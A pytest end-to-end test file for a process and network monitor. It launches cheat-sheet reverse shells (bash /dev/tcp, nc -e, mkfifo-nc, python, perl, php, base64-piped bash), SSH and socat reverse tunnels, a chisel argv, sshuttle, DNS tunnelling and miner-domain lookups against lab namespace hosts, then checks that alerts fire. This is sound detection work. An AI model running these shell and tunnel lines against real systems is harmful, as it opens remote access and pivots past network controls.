"""Issue 15 end to end: cheat-sheet command lines, tunnel tools, DNS and process context as
real processes seen by a real monitor, with the network blocked (the destination port of a
namespace host rejects the connection, as a firewall would) and with it working (a
listener in the namespace answers), each alert carrying the episode set in the launching
worker's environment.  tests/corpus/intent/CASES.md and tests/corpus/tunnels/CASES.md cite
every command line; the only edits are the address and port of the namespace host, and a
unique path where a cheat sheet uses a fixed one (/tmp/f, /tmp/s) so runs side by side
cannot collide.  Nothing leaves the machine.
"""

from __future__ import annotations

import base64
import dataclasses
import itertools
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from monitor.config import load_config
from monitor.lab.outside import OutsideHost, kill_tree, visit_forwarded_port
from monitor.sensor.dns import build_query
from tests.support.episodes import alerts, episode, in_test_episode, wait_alert, worker_env
from tests.support.live import LiveMonitor

pytestmark = pytest.mark.e2e

CLOSED = 4999  # nothing listens there: the host rejects (RST), as a firewall would
_ports = itertools.count(4400)


@pytest.fixture(scope="module")
def attacker() -> Iterator[OutsideHost]:
    h = OutsideHost()
    h.up()
    try:
        h.start_sshd(ports=(22,))
        h.start_dns()
        for port in (53, 8080, 14444):
            h.start_tcp_sink(port)
        yield h
    finally:
        h.down()


@pytest.fixture(scope="module")
def bastion() -> Iterator[OutsideHost]:
    h = OutsideHost()
    h.up()
    try:
        h.start_sshd(ports=(22,))
        h.start_tcp_sink(8000)
        yield h
    finally:
        h.down()


@pytest.fixture(scope="module")
def mon(bastion: OutsideHost) -> Iterator[LiveMonitor]:
    cfg = load_config(None)
    cfg = dataclasses.replace(
        cfg,
        allowlist=dataclasses.replace(cfg.allowlist, ssh_destinations=(f"{bastion.ip4}/32",)),
        detectors=dataclasses.replace(cfg.detectors, long_lived_s=10.0),
    )
    m = LiveMonitor(cfg, keep=in_test_episode).start()
    try:
        yield m
    finally:
        m.stop()


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    """A host-internal service that reverse tunnels expose."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    p = subprocess.Popen(
        [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(0.5)
    try:
        yield port
    finally:
        kill_tree(p)


@pytest.fixture()
def scratch() -> Iterator[Path]:
    d = Path(tempfile.mkdtemp(prefix="rlg-intent-"))
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def start(cmd: list[str], ep: str, path_prefix: str = "", **kw: object) -> subprocess.Popen:
    opts: dict[str, object] = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL,
                               "stderr": subprocess.DEVNULL, **kw}  # fmt: skip
    return subprocess.Popen(  # type: ignore[call-overload,no-any-return]
        cmd, env=worker_env(ep, path_prefix), start_new_session=True, **opts
    )


# -- a one-shot listener in the namespace ----------------------------------------------------


def listen(host: OutsideHost, ip: str, port: int) -> Path:
    return host.start_shell_listener(port, ip)


# -- reverse shells: cheat-sheet lines ----------------------------------------------------------

# (family id, line with {H} {P} {F}, the shell answers in working mode, behaviour confirms it)
SHELLS = [
    ("bash-i-devtcp", "bash -i >& /dev/tcp/{H}/{P} 0>&1", True, True),
    ("bash-fd196", "0<&196;exec 196<>/dev/tcp/{H}/{P}; sh <&196 >&196 2>&196", True, False),
    ("b64-bash", "echo {B64} | base64 -d | bash 2>/dev/null", True, True),
    ("nc-traditional-e", "nc -e /bin/sh {H} {P}", True, True),
    # ncat relays the program's stdio through pipes: no shell on the socket to confirm
    ("ncat-e", "ncat {H} {P} -e /bin/bash", True, False),
    ("mkfifo-nc", "rm -f {F};mkfifo {F};cat {F}|/bin/sh -i 2>&1|nc {H} {P} >{F}", True, True),
    ("socat-exec", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{H}:{P}", True, False),
    (
        "python-dup2-pty",
        "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect(("{H}",{P}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'os.dup2(s.fileno(),2);pty.spawn("/bin/sh")\'',
        True,
        True,
    ),
    (
        "python-ipv6",
        "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);"
        's.connect(("{H6}",{P},0,2));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'os.dup2(s.fileno(),2);pty.spawn("/bin/sh")\'',
        True,
        True,
    ),
    (
        "python-nospace-short",
        'python3 -c \'a=__import__;s=a("socket").socket;o=a("os").dup2;p=a("pty").spawn;'
        'c=s();c.connect(("{H}",{P}));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p("/bin/sh")\'',
        True,
        True,
    ),
    (
        "perl-socket",
        'perl -e \'use Socket;$i="{H}";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname('
        '"tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");'
        'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");}};\'',
        True,
        True,
    ),
    (
        "php-fsockopen",
        'php -r \'$sock=fsockopen("{H}",{P});exec("/bin/sh -i <&3 >&3 2>&3");\'',
        True,
        True,
    ),
    (
        "ruby-tcpsocket",
        'ruby -rsocket -e\'f=TCPSocket.open("{H}",{P}).to_i;'
        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
        # Ruby >= 2.0 opens sockets close-on-exec, so the exec'd sh finds no fd %d: the
        # line no longer gives a shell, the attempt is still reported
        False,
        False,
    ),
    (
        "openssl-s-client",
        "mkfifo {F}; /bin/sh -i < {F} 2>&1 | openssl s_client -quiet -connect {H}:{P} > {F}; "
        "rm {F}",
        False,
        False,
    ),
]


def nc_traditional_dir(scratch: Path) -> str:
    """Debian's netcat-traditional as `nc` (what `update-alternatives` would select)."""
    d = scratch / "bin"
    d.mkdir(exist_ok=True)
    target = shutil.which("nc.traditional")
    if target is None:
        pytest.skip("netcat-traditional is not installed (scripts/setup.sh --test installs it)")
    (d / "nc").symlink_to(target)
    return f"{d}:"


def need(*tools: str) -> None:
    for t in tools:
        if shutil.which(t) is None:
            pytest.skip(f"{t} is not installed (scripts/setup.sh --test installs it)")


def tls_server(host: OutsideHost, port: int) -> None:
    key, cert = host.dir / f"k{port}.pem", host.dir / f"c{port}.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-keyout", str(key), "-out", str(cert), "-days", "1", "-nodes", "-subj", "/CN=x"],
        check=True, capture_output=True,
    )  # fmt: skip
    host.spawn(
        "openssl", "s_server", "-quiet", "-key", str(key), "-cert", str(cert), "-accept",
        str(port), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    host.wait_port(host.ip4, port)


@pytest.mark.parametrize("network", ["blocked", "working"])
@pytest.mark.parametrize("family", SHELLS, ids=[f[0] for f in SHELLS])
def test_reverse_shell_cheat_sheet(mon, attacker, scratch, family, network) -> None:
    fid, template, answers, confirms = family
    tools = {"php": "php", "ruby": "ruby", "ncat": "ncat", "socat": "socat", "perl": "perl"}
    need(*[t for k, t in tools.items() if template.startswith(k) or f"|{k}" in template])
    ep = episode()
    port = next(_ports) if network == "working" else CLOSED
    host6 = attacker.ip6
    out: Path | None = None
    if network == "working":
        if fid == "openssl-s-client":
            tls_server(attacker, port)
        else:
            out = listen(attacker, host6 if fid == "python-ipv6" else attacker.ip4, port)
    b64 = base64.b64encode(
        f"nohup bash -c 'bash -i >& /dev/tcp/{attacker.ip4}/{port} 0>&1'\n".encode()
    ).decode()
    fifo = f"/tmp/rlg-{uuid.uuid4().hex[:10]}"
    line = (
        template.replace("{H}", attacker.ip4)
        .replace("{H6}", host6)
        .replace("{P}", str(port))
        .replace("{F}", fifo)
        .replace("{B64}", b64)
        .replace("{{", "{")
        .replace("}}", "}")
    )
    prefix = nc_traditional_dir(scratch) if fid == "nc-traditional-e" else ""
    p = start(["bash", "-c", line], ep, prefix)
    try:
        a = wait_alert(mon, ep, "RLG-SHL-002", timeout=20)
        assert a["rlguard"]["alert"]["severity"] in ("high", "critical"), a["event"]["reason"]
        assert a["rl"]["worker_id"] == "w-e2e" and a["rl"]["lineage"]
        assert a["threat"]["technique"][0]["id"] == "T1059.004"
        if network == "working":
            try:
                p.wait(timeout=20)
            except subprocess.TimeoutExpired:
                pass
            if answers and out is not None:
                deadline = time.monotonic() + 10
                while not out.exists() and time.monotonic() < deadline:
                    time.sleep(0.1)
                assert b"rlguard-shell-ok" in out.read_bytes(), "the shell really answered"
            if confirms:
                up = wait_alert(mon, ep, "RLG-SHL-002", severity="critical")
                assert any(
                    e["name"] == "intent.confirmed" for e in up["rlguard"]["alert"]["evidence"]
                )
        else:
            # blocked: no connection ever carried a shell, yet the attempt was reported
            time.sleep(0.3)
            assert not [x for x in alerts(mon, ep) if x["rule"]["id"] == "RLG-SHL-001"]
    finally:
        kill_tree(p)
        Path(fifo).unlink(missing_ok=True)


# -- tunnel tools by command line -----------------------------------------------------------------


def ppk_key(host: OutsideHost, scratch: Path) -> tuple[Path, str]:
    """The lab's client key in PuTTY's format, and the host key fingerprint for -hostkey."""
    need("puttygen", "plink")
    ppk = scratch / "key.ppk"
    subprocess.run(
        ["puttygen", str(host.client_key), "-O", "private", "-o", str(ppk)],
        check=True, capture_output=True,
    )  # fmt: skip
    fp = subprocess.run(
        ["ssh-keygen", "-lf", str(host.dir / "host_key.pub")],
        check=True, capture_output=True, text=True,
    ).stdout.split()[1]  # fmt: skip
    return ppk, fp


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_plink_remote_forward(mon, attacker, web, scratch, network) -> None:
    ep = episode()
    ppk, fp = ppk_key(attacker, scratch)
    rport = next(_ports) + 5000
    ssh_port = "22" if network == "working" else str(CLOSED)
    # IATT-PIVOT: plink -l root -pw toor ssh-server-ip -R 3390:127.0.0.1:3389 (a key, not -pw:
    # the lab's sshd takes keys only)
    cmd = ["plink", "-l", "root", "-i", str(ppk), "-P", ssh_port, "-hostkey", fp, "-batch",
           "-N", attacker.ip4, "-R", f"{rport}:127.0.0.1:{web}"]  # fmt: skip
    p = start(cmd, ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-003")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "plink.remote_forward"
        assert a["rlguard"]["alert"]["severity"] == "high"
        if network == "working":
            assert b"200" in visit_forwarded_port(attacker, rport)
            back = wait_alert(mon, ep, "RLG-TUN-001")
            assert back["rlguard"]["alert"]["severity"] == "critical"
            # PuTTY's banner is a library's: low alone, high once it serves the forward
            wait_alert(mon, ep, "RLG-TUN-002", severity="high")
    finally:
        kill_tree(p)


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_socat_relay_exposing_a_local_service(mon, attacker, web, network) -> None:
    ep = episode()
    port = 8080 if network == "working" else CLOSED
    # IATT-PIVOT "Connect - Connect": socat -v tcp-connect:...,reuseaddr tcp-connect:...
    cmd = ["socat", "-v", f"tcp-connect:{attacker.ip4}:{port},reuseaddr",
           f"tcp-connect:localhost:{web}"]  # fmt: skip
    need("socat")
    p = start(cmd, ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-004")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "socat.relay"
        assert a["rlguard"]["alert"]["severity"] == "high"
    finally:
        kill_tree(p)


def test_renamed_chisel_client(mon, attacker, scratch) -> None:
    """chisel is not packaged: a stand-in executable under a meaningless name runs with
    the cheat sheet's exact argv (the detector reads argv only; the connection it would
    open is covered by RLG-TUN-007 and the network tests)."""
    ep = episode()
    stand_in = scratch / "svc-agent"
    shutil.copy("/bin/sleep", stand_in)
    p = start([str(stand_in), "client", f"{attacker.ip4}:8008", "R:socks"], ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-004")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "chisel.reverse"
        assert a["rlguard"]["alert"]["severity"] == "high"
    finally:
        kill_tree(p)


def test_sshuttle_client_blocked(mon, attacker) -> None:
    """Blocked only: with the network working sshuttle would rewrite this shared machine's
    iptables nat table, which other sessions' tests use."""
    need("sshuttle")
    ep = episode()
    ssh_cmd = " ".join(["ssh", *attacker.ssh_args(CLOSED)])
    # IATT-PIVOT: sshuttle -vvr root@10.10.10.10 10.1.1.0/24 -e "ssh -i ~/.ssh/id_rsa"
    cmd = ["sshuttle", "-vvr", f"root@{attacker.ip4}", "10.1.1.0/24", "-e", ssh_cmd]
    p = start(cmd, ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-004")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "sshuttle.client"
    finally:
        kill_tree(p)


SSHUTTLE_PYSCRIPT = (
    'import sys, os; verbosity=0; sys.stdin = os.fdopen(0, "rb"); '
    'exec(compile(sys.stdin.read(1704), "assembler.py", "exec")); sys.exit(98);'
)


def test_sshuttle_server_started_through_sshd(mon, bastion) -> None:
    """The server half of sshuttle, started the way sshuttle's client starts it (SSHUTTLE-SSH)
    through an sshd that the episode's worker runs: the sshd's sessions inherit its tags."""
    ep = episode()
    d = bastion.dir
    cfg = d / "agent_sshd_config"
    cfg.write_text((d / "sshd_config").read_text().replace("Port 22\n", "Port 2299\n"))
    sshd = bastion.spawn("/usr/sbin/sshd", "-D", "-e", "-f", str(cfg), env=worker_env(ep))
    bastion.wait_port(bastion.ip4, 2299)
    pycmd = (
        f"P=python3; $P -V 2>/dev/null || P=python; exec \"$P\" -c '{SSHUTTLE_PYSCRIPT}'; exit 97"
    )
    remote = "/bin/sh -c " + "'" + pycmd.replace("'", "'\"'\"'") + "'"
    client = subprocess.Popen(
        ["ssh", *bastion.ssh_args(2299), f"root@{bastion.ip4}", "--", remote],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        a = wait_alert(mon, ep, "RLG-TUN-004")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "sshuttle.server"
        assert any(x["name"] == "sshd" for x in a["rl"]["lineage"])
    finally:
        kill_tree(client)
        sshd.kill()


RFORWARD = textwrap.dedent(
    """
    # the command-line interface of paramiko's demos/rforward.py (options -p, -r, --user,
    # -K), written here with paramiko: the demo itself is not shipped in the wheel
    import argparse, socket, threading, paramiko
    ap = argparse.ArgumentParser()
    ap.add_argument("server"); ap.add_argument("-p", "--remote-port", type=int, default=4000)
    ap.add_argument("-r", "--remote"); ap.add_argument("-u", "--user", default="root")
    ap.add_argument("-K", "--key")
    a = ap.parse_args()
    host, _, port = a.server.partition(":")
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(host, int(port or 22), username=a.user, key_filename=a.key, look_for_keys=False,
              allow_agent=False, timeout=5)
    t = c.get_transport(); t.request_port_forward("127.0.0.1", a.remote_port)
    print("ready", flush=True)  # paramiko takes channels only once the request returned
    rhost, rport = a.remote.split(":")
    while True:
        ch = t.accept(60)
        if ch is None:
            break
        s = socket.create_connection((rhost, int(rport)))
        s.sendall(ch.recv(1024)); ch.sendall(s.recv(4096)); ch.close(); s.close()
    """
)


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_paramiko_rforward_demo(mon, attacker, web, scratch, network) -> None:
    pytest.importorskip("paramiko")
    ep = episode()
    script = scratch / "rforward.py"
    script.write_text(RFORWARD)
    rport = next(_ports) + 6000
    server = f"{attacker.ip4}:{22 if network == 'working' else CLOSED}"
    cmd = [sys.executable, str(script), server, "-p", str(rport), "-r", f"127.0.0.1:{web}",
           "--user", "root", "-K", str(attacker.client_key)]  # fmt: skip
    p = subprocess.Popen(
        cmd, env=worker_env(ep), start_new_session=True, stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        a = wait_alert(mon, ep, "RLG-TUN-004")
        assert a["rlguard"]["alert"]["evidence"][0]["name"] == "paramiko.rforward"
        if network == "working":
            assert p.stdout is not None and p.stdout.readline().strip() == b"ready"
            assert b"200" in visit_forwarded_port(attacker, rport)
            wait_alert(mon, ep, "RLG-TUN-001")
    finally:
        kill_tree(p)


# -- ssh: a config under /dev/shm with a host alias; ProxyJump in a quoted form ---------------


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_ssh_forward_hidden_in_dev_shm_config(mon, attacker, web, network) -> None:
    ep = episode()
    rport = next(_ports) + 7000
    cfg = Path(f"/dev/shm/rlg-{uuid.uuid4().hex[:10]}.conf")
    cfg.write_text(
        textwrap.dedent(
            f"""
            Host backup-mirror
                HostName {attacker.ip4}
                Port {22 if network == "working" else CLOSED}
                User root
                IdentityFile {attacker.client_key}
                StrictHostKeyChecking no
                UserKnownHostsFile /dev/null
                BatchMode yes
                LogLevel ERROR
                RemoteForward {rport} 127.0.0.1:{web}
            """
        )
    )
    p = start(["ssh", "-F", str(cfg), "-N", "backup-mirror"], ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-003")
        assert a["rlguard"]["alert"]["severity"] == "high"
        assert any(e["kind"] == "config" for e in a["rlguard"]["alert"]["evidence"])
        if network == "working":
            assert b"200" in visit_forwarded_port(attacker, rport)
            wait_alert(mon, ep, "RLG-TUN-001")
    finally:
        kill_tree(p)
        cfg.unlink(missing_ok=True)


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_ssh_proxyjump_quoted(mon, attacker, web, scratch, network) -> None:
    """-o 'ProxyJump root@host' (quoted, with a space): the session is carried by the jump
    ssh child, so the forwarding ssh never sends a banner itself.  The jump host is the
    outside host and the target its own loopback (the namespaces do not route to each
    other on this machine)."""
    ep = episode()
    rport = next(_ports) + 8000
    cfg = scratch / "cfg"
    cfg.write_text(
        f"Host *\n  IdentityFile {attacker.client_key}\n  StrictHostKeyChecking no\n"
        "  UserKnownHostsFile /dev/null\n  BatchMode yes\n  LogLevel ERROR\n"
    )
    jump = f"root@{attacker.ip4}" + ("" if network == "working" else f":{CLOSED}")
    cmd = ["ssh", "-F", str(cfg), "-o", f"ProxyJump {jump}", "-N", "-R",
           f"{rport}:127.0.0.1:{web}", "root@127.0.0.1"]  # fmt: skip
    p = start(cmd, ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-003")
        assert a["rlguard"]["alert"]["severity"] == "high"
        if network == "working":
            assert b"200" in visit_forwarded_port(attacker, rport)
            back = wait_alert(mon, ep, "RLG-TUN-001")
            assert "proxyjump" in back["rlguard"]["alert"]["evidence"][0]["detail"].lower()
    finally:
        kill_tree(p)


# -- DNS -------------------------------------------------------------------------------------------

UDP_QUERIES = textwrap.dedent(
    """
    import socket, sys
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(0.2)
    for q in sys.argv[3:]:
        u.sendto(bytes.fromhex(q), (sys.argv[1], int(sys.argv[2])))
        try:
            u.recv(512)
        except OSError:
            pass
    """
)


def send_queries(ep: str, ip: str, queries: list[bytes]) -> None:
    subprocess.run(
        [sys.executable, "-c", UDP_QUERIES, ip, "53", *[q.hex() for q in queries]],
        env=worker_env(ep),
        check=True,
        timeout=120,
    )


@pytest.mark.parametrize("network", ["blocked", "working"])
@pytest.mark.parametrize(
    ("name", "qtype", "rule", "signal"),
    [
        ("donate.v2.xmrig.com", 1, "RLG-MIN-003", "dns.miner_domain"),
        ("donate.ssl.xmrig.com", 28, "RLG-MIN-003", "dns.miner_domain"),
        ("xmr-eu1.nanopool.org", 1, "RLG-MIN-003", "dns.pool_domain"),
        ("connect.ngrok-agent.com", 1, "RLG-TUN-005", "dns.tunnel_domain"),
        ("_v2-origintunneld._tcp.argotunnel.com", 33, "RLG-TUN-005", "dns.tunnel_domain"),
    ],
)
def test_dns_names(mon, attacker, bastion, name, qtype, rule, signal, network) -> None:
    ep = episode()
    # blocked: the bastion runs no DNS server, the query goes unanswered
    ip = attacker.ip4 if network == "working" else bastion.ip4
    send_queries(ep, ip, [build_query(name, qtype)])
    a = wait_alert(mon, ep, rule)
    assert a["dns"]["question"]["name"] == name
    assert a["rlguard"]["alert"]["evidence"][0]["name"] == signal


def test_dns_tunnel_txt_volume_with_random_labels(mon, attacker) -> None:
    ep = episode()
    rng = random.Random(11)
    queries = []
    for _ in range(220):
        # dnscat2's encoding: hex in labels of at most 62 characters under the domain
        data = rng.randbytes(rng.randint(40, 90)).hex()
        labels = ".".join(data[i : i + 62] for i in range(0, len(data), 62))
        queries.append(build_query(f"{labels}.t.exfil-lab.example", 16, id=rng.randrange(65536)))
    send_queries(ep, attacker.ip4, queries)
    a = wait_alert(mon, ep, "RLG-TUN-006", severity="high", timeout=30)
    assert a["rlguard"]["alert"]["dns_tunnel"]["registered_domain"] == "exfil-lab.example"
    names = {e["name"] for e in a["rlguard"]["alert"]["evidence"]}
    assert {"dns.tunnel.labels", "dns.tunnel.records"} <= names


TCP_QUERY = (
    "import socket,sys\n"
    "s=socket.create_connection((sys.argv[1],53),timeout=5)\n"
    "s.sendall(bytes.fromhex(sys.argv[2]))\n"
    "s.close()\n"
)


def test_pool_name_over_dns_over_tcp(mon, attacker) -> None:
    ep = episode()
    q = build_query("gulf.moneroocean.stream", 1, tcp=True)
    subprocess.run(
        [sys.executable, "-c", TCP_QUERY, attacker.ip4, q.hex()],
        env=worker_env(ep),
        check=True,
        timeout=20,
    )
    a = wait_alert(mon, ep, "RLG-MIN-003")
    assert a["dns"]["question"]["name"] == "gulf.moneroocean.stream"
    assert a["network"]["protocol"] == "dns" and a["destination"]["port"] == 53
    sent = mon.wait_for(
        lambda d: d["event"]["action"] == "send" and d.get("rl", {}).get("episode_id") == ep
    )
    assert sent["dns"]["question"]["type"] == "A"
    assert sent["rlguard"]["dns"] == {"parsed": True, "transport": "tcp"}


# -- process context ---------------------------------------------------------------------------

CONNECT_HOLD = (
    "import socket,sys,time\n"
    "try:\n"
    "    s=socket.create_connection((sys.argv[1],int(sys.argv[2])),timeout=5)\n"
    "    time.sleep(float(sys.argv[3]))\n"
    "except OSError:\n"
    "    pass\n"
)


@pytest.mark.parametrize("network", ["blocked", "working"])
def test_miner_from_dev_shm_on_pool_port_14444(mon, attacker, bastion, network) -> None:
    ep = episode()
    d = Path(f"/dev/shm/rlg-{uuid.uuid4().hex[:10]}")
    d.mkdir()
    exe = d / "kworker"
    shutil.copy(sys.executable, exe)
    ip = attacker.ip4 if network == "working" else bastion.ip4  # bastion: 14444 closed
    try:
        subprocess.run([str(exe), "-c", CONNECT_HOLD, ip, "14444", "0.2"], env=worker_env(ep),
                       timeout=30)  # fmt: skip
        a = wait_alert(mon, ep, "RLG-MIN-005")
        assert str(exe) in a["rlguard"]["alert"]["evidence"][0]["detail"]
        assert a["rlguard"]["alert"]["severity"] == "medium"
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_long_lived_connection_from_tmp(mon, bastion, scratch) -> None:
    ep = episode()
    exe = scratch / "updater"
    shutil.copy(sys.executable, exe)
    p = start([str(exe), "-c", CONNECT_HOLD, bastion.ip4, "8000", "40"], ep)
    try:
        a = wait_alert(mon, ep, "RLG-TUN-007", timeout=40)  # long_lived_s = 10 here
        assert a["destination"]["port"] == 8000
        assert "holds tcp" in a["rlguard"]["alert"]["evidence"][0]["detail"]
    finally:
        kill_tree(p)


# -- what RL agents legitimately run: silent --------------------------------------------------


def stand_in(scratch: Path, name: str) -> str:
    """Jupyter, Ray and torchrun are not installed here: their exact command lines run
    under a stand-in executable of the same name (the detectors judge argv and exe)."""
    d = scratch / "opt" / name / "bin"
    d.mkdir(parents=True, exist_ok=True)
    shutil.copy("/bin/true", d / name)
    return str(d / name)


def benign_commands(bastion: OutsideHost, scratch: Path) -> list[tuple[list[str], bool]]:
    """(argv, keeps running) for what RL jobs run, against the bastion namespace host only."""
    b = bastion.ip4
    ssh = ["ssh", *bastion.ssh_args(22)]
    return [
        (
            [
                sys.executable,
                "-m",
                "pip",
                "install",
                "--no-index",
                "--find-links",
                str(scratch),
                "-q",
                "rlguard-nothing-here",
            ],
            False,
        ),  # fmt: skip
        (["git", "ls-remote", f"file://{scratch}"], False),
        (["curl", "-s", "-m", "5", "-o", "/dev/null", f"http://{b}:8000/"], False),
        ([*ssh, "-N", "-L", "15432:127.0.0.1:5432", f"root@{b}"], True),
        (
            [
                "autossh",
                "-M",
                "0",
                "-N",
                "-L",
                "15433:127.0.0.1:5432",
                *bastion.ssh_args(22),
                f"root@{b}",
            ],
            True,
        ),  # fmt: skip
        # the bastion's port 8000 accepts and never answers: these clients wait, so they are
        # left running and killed at the end
        (
            ["psql", "-h", b, "-p", "8000", "-U", "trainer", "-d", "runs", "-c", "select 1", "-w"],
            True,
        ),
        (["redis-cli", "-h", b, "-p", "8000", "-t", "2", "PING"], True),
        (
            [
                stand_in(scratch, "jupyter"),
                "lab",
                "--ip=0.0.0.0",
                "--port=8888",
                "--no-browser",
                "--allow-root",
            ],
            False,
        ),  # fmt: skip
        (
            [
                stand_in(scratch, "ray"),
                "start",
                "--head",
                "--port=6379",
                "--dashboard-host=0.0.0.0",
            ],
            False,
        ),  # fmt: skip
        (
            [
                stand_in(scratch, "torchrun"),
                "--nnodes=2",
                "--nproc_per_node=8",
                "--rdzv_id=456",
                "--rdzv_backend=c10d",
                f"--rdzv_endpoint={b}:29500",
                "train.py",
            ],
            False,
        ),  # fmt: skip
        (
            [
                sys.executable,
                "-m",
                "torch.distributed.launch",
                "--nproc_per_node=8",
                f"--master_addr={b}",
                "--master_port=29500",
                "train.py",
            ],
            False,
        ),  # fmt: skip
        (
            [stand_in(scratch, "cloudflared"), "access", "ssh", "--hostname", "ssh.example.com"],
            False,
        ),  # fmt: skip
        (["bash", "-c", f"timeout 1 bash -c '</dev/tcp/{b}/8000' && echo up"], False),
        (["bash", "-c", "echo cG0yIGxpc3QK | base64 -d | bash"], False),
        (["socat", "-T", "1", "TCP-LISTEN:0,reuseaddr", f"TCP:{b}:8000"], True),
        (
            [
                sys.executable,
                "-c",
                f"import socket; socket.create_connection(('{b}', 8000)).close()",
            ],
            False,
        ),  # fmt: skip
    ]


def test_benign_corpus_is_silent(mon, bastion, scratch) -> None:
    need("autossh", "psql", "redis-cli", "socat")
    ep = episode()
    procs = []
    try:
        for cmd, keeps_running in benign_commands(bastion, scratch):
            p = start(cmd, ep)
            procs.append(p)
            if not keeps_running:
                try:
                    p.wait(timeout=15)
                except subprocess.TimeoutExpired:
                    pass
        mon.wait_for(
            lambda d: (
                d["event"]["action"] == "exec"
                and d.get("rl", {}).get("episode_id") == ep
                and d["process"]["name"] == "socat"
            ),
            timeout=30,
        )
        time.sleep(3.0)  # let the ssh sessions come up and every line drain
        got = alerts(mon, ep)
        assert not got, [(a["rule"]["id"], a["event"]["reason"]) for a in got]
    finally:
        for p in procs:
            kill_tree(p)


def test_library_ssh_banner_to_port_22_is_low(mon, bastion) -> None:
    pytest.importorskip("paramiko")
    ep = episode()
    code = (
        "import paramiko,sys\n"
        "c=paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "c.connect(sys.argv[1], 22, username='root', key_filename=sys.argv[2],"
        " look_for_keys=False, allow_agent=False, timeout=5)\n"
        "c.exec_command('true'); c.close()\n"
    )
    subprocess.run([sys.executable, "-c", code, bastion.ip4, str(bastion.client_key)],
                   env=worker_env(ep), timeout=30, check=True)  # fmt: skip
    a = wait_alert(mon, ep, "RLG-TUN-002")
    assert a["rlguard"]["alert"]["severity"] == "low"
    time.sleep(0.5)
    assert all(x["rlguard"]["alert"]["severity"] == "low" for x in alerts(mon, ep))
